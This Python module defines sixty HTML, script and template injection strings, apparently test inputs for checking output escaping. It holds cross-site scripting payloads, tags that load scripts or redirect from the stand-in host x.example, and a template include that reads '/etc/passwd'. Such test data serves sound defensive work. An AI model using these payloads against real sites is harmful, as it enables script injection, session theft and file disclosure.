"""Sixty texts that want to become part of the page: elements, handlers, addresses, templates, headers, and ends of what they stand in."""

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//x.example></script>", "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<form action=//x.example><input name=p>", "<input onfocus=alert(1) autofocus>", '" onfocus=alert(1) autofocus x="',
    "' onmouseover=alert(1) x='", "` onmouseover=alert(1) x=`", '" style="background:url(//x.example)" x="',
    "<style>@import '//x.example'</style>", "<link rel=stylesheet href=//x.example>", "<meta http-equiv=refresh content=0;//x.example>",
    "<base href=//x.example>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</select><b>x</b>",
    "</option></select><img src=x onerror=alert(1)>", "</td></tr></table><b>x</b>", "--><b>x</b><!--", "<!--<b>-->", "<![CDATA[<b>x</b>]]>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<math><mtext><b>x</b></mtext></math>", "<template><b>x</b></template>", "<noscript><b>x</b></noscript>",
    "<xmp><b>x</b></xmp>", "<plaintext>", "<isindex action=javascript:alert(1)>", "<b>x", "<", ">", "&lt;b&gt;x&lt;/b&gt;", "&#60;b&#62;",
    "&#x3c;script&#x3e;", "%3Cscript%3Ealert(1)%3C/script%3E", "{{7*7}}", "{% include '/etc/passwd' %}", "{{ look.desk }}", "%(name)s",
    "${7*7}", "<%= 7*7 %>", "\u202e<b>\u202c", "＜script＞alert(1)＜/script＞",
)  # fmt: skip
